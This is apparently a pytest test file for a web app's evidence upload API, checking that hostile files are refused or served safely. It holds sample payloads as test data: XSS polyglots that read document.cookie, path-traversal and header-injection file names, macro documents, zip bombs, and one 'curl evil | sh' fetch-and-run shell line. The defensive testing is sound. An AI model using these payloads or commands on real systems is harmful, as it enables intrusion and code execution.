"""Hostile uploads through the public surface (the evidence API): polyglots, renamed files,
path-traversal names, zero-byte and oversize files, zip bombs and macro documents. Nothing is
stored that should not be, and whatever is stored comes back only as an attachment of its sniffed
type, named with that type's extension."""

import io
import time
from pathlib import Path

import hostile_files
import pytest
from sqlalchemy import func, select
from werkzeug.http import parse_options_header

from livinglab.extensions import db
from livinglab.models import Evidence, Upload

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


@pytest.fixture
def officer_and_url(api_as, make_commitment):
    milestone = make_commitment().milestones[0]
    return api_as("region_officer"), f"/api/v1/milestones/{milestone.id}/evidence"


def _send(client, url, data, name):
    return client.post(
        url,
        data={"file": (io.BytesIO(data), name), "description": "Bukti"},
        content_type="multipart/form-data",
    )


def _stored():
    return db.session.scalar(select(func.count(Upload.id))), db.session.scalar(select(func.count(Evidence.id)))


@pytest.mark.parametrize(
    ("data", "name", "sniffed"),
    [
        (PDF + b"<html><script>alert(document.cookie)</script></html>", "laporan.html", "application/pdf"),
        (PNG + b"PK\x03\x04<script>alert(1)</script>", "foto.png", "image/png"),
        (PDF + b"\n<svg onload=alert(1)>", "scan.svg", "application/pdf"),
    ],
)
def test_polyglots_are_served_back_only_as_attachments_of_their_sniffed_type(officer_and_url, data, name, sniffed):
    officer, url = officer_and_url
    created = _send(officer, url, data, name)
    assert created.status_code == 201, created.json
    file = officer.get(f"/api/v1/evidence/{created.json['id']}/file")
    assert file.status_code == 200 and file.data == data
    assert file.mimetype == sniffed
    assert file.headers["Content-Disposition"].startswith("attachment")
    assert file.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in file.headers["Content-Security-Policy"]
    assert _served_name(file) == created.json["file_name"] == name.rsplit(".", 1)[0] + _EXTENSION[sniffed]


_EXTENSION = {"application/pdf": ".pdf", "image/png": ".png"}


def _served_name(response):
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert disposition == "attachment"
    return options["filename"]


DOCX = hostile_files.archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})


@pytest.mark.parametrize(
    ("data", "name", "stored"),
    [
        (PDF, "laporan.bat", "laporan.pdf"),
        (PDF, "laporan.html", "laporan.pdf"),
        (PDF, "laporan.exe", "laporan.pdf"),
        (PDF, "laporan.svg", "laporan.pdf"),
        (PDF, "laporan.hta", "laporan.pdf"),
        (PDF, "laporan.jar", "laporan.pdf"),
        (PDF, "laporan.pdf.bat", "laporan.pdf.pdf"),
        (PDF, "LAPORAN.PDF", "LAPORAN.pdf"),
        (PDF, "laporan", "laporan.pdf"),
        (PNG, "foto.jpg", "foto.png"),
        (DOCX, "laporan.docm", "laporan.docx"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
def test_the_stored_and_served_name_carries_the_extension_of_the_sniffed_type(officer_and_url, data, name, stored):
    officer, url = officer_and_url
    created = _send(officer, url, data, name)
    assert created.status_code == 201, created.json
    assert created.json["file_name"] == stored
    assert _served_name(officer.get(f"/api/v1/evidence/{created.json['id']}/file")) == stored


@pytest.mark.parametrize(
    ("build", "name"),
    [
        (hostile_files.docm, "laporan.docx"),
        (hostile_files.xlsm_by_content_type, "rekap.xlsx"),
        (hostile_files.odt_with_basic_macros, "catatan.odt"),
    ],
)
def test_documents_with_macros_are_refused_whatever_their_name(officer_and_url, build, name):
    officer, url = officer_and_url
    response = _send(officer, url, build(), name)
    assert response.status_code == 422 and "file" in response.json["error"]["fields"]
    assert _stored() == (0, 0)


@pytest.mark.parametrize(
    ("build", "name"),
    [
        (hostile_files.odt_bomb, "laporan.odt"),
        (hostile_files.docx_bomb, "laporan.docx"),
        (lambda: hostile_files.xlsx_bomb(["judul"]), "rekap.xlsx"),
    ],
)
def test_zip_bombs_are_refused_fast_without_unpacking_them(officer_and_url, build, name):
    officer, url = officer_and_url
    bomb = build()
    before, started = hostile_files.peak_rss_mb(), time.perf_counter()
    response = _send(officer, url, bomb, name)
    elapsed, growth = time.perf_counter() - started, hostile_files.peak_rss_mb() - before
    assert response.status_code == 422 and "file" in response.json["error"]["fields"], response.json
    assert elapsed < 5 and growth < 50, (elapsed, growth)
    assert _stored() == (0, 0)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00", "setup.pdf"),
        (b"<html><script>alert(1)</script></html>", "page.png"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "logo.jpg"),
        (b"#!/bin/sh\ncurl evil | sh\n", "rekap.xlsx"),
        (b"PK\x03\x04" + b"\x00" * 40, "broken.docx"),
    ],
)
def test_renamed_files_are_refused_and_nothing_is_stored(officer_and_url, data, name):
    officer, url = officer_and_url
    response = _send(officer, url, data, name)
    assert response.status_code == 422 and "file" in response.json["error"]["fields"]
    assert _stored() == (0, 0)


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd.pdf",
        "..\\..\\windows\\system32\\sk.pdf",
        "/var/lib/livinglab/uploads/ab/x.pdf",
        'sk"; filename="evil.exe.pdf',
        "..",
    ],
)
def test_path_traversal_names_stay_inside_the_upload_folder(app, officer_and_url, name):
    officer, url = officer_and_url
    created = _send(officer, url, PDF, name)
    assert created.status_code == 201
    shown = created.json["file_name"]
    assert "/" not in shown and "\\" not in shown and not shown.startswith(".") and shown.endswith(".pdf")
    folder = Path(app.config["UPLOAD_FOLDER"]).resolve()
    files = [p.resolve() for p in folder.rglob("*") if p.is_file()]
    assert files and all(folder in p.parents for p in files)
    download = officer.get(f"/api/v1/evidence/{created.json['id']}/file")
    disposition = download.headers["Content-Disposition"]
    assert "/" not in disposition and "\\" not in disposition and "\n" not in disposition


def test_zero_byte_files_are_refused(officer_and_url):
    officer, url = officer_and_url
    response = _send(officer, url, b"", "kosong.pdf")
    assert response.status_code == 422
    assert _stored() == (0, 0)


def test_oversize_files_are_refused_before_anything_is_read(make_app, make_user, make_commitment):
    from conftest import ApiClient

    from livinglab.services import accounts

    app = make_app(UPLOAD_MAX_MB=1)
    with app.app_context():
        milestone = make_commitment().milestones[0]
        _, raw = accounts.create_token(make_user("region_officer").email, "big")
        response = _send(
            ApiClient(app, raw), f"/api/v1/milestones/{milestone.id}/evidence", PDF + b"0" * (1024 * 1024), "big.pdf"
        )
        assert response.status_code == 413 and response.json["error"]["code"] == "payload_too_large"
        assert _stored() == (0, 0)
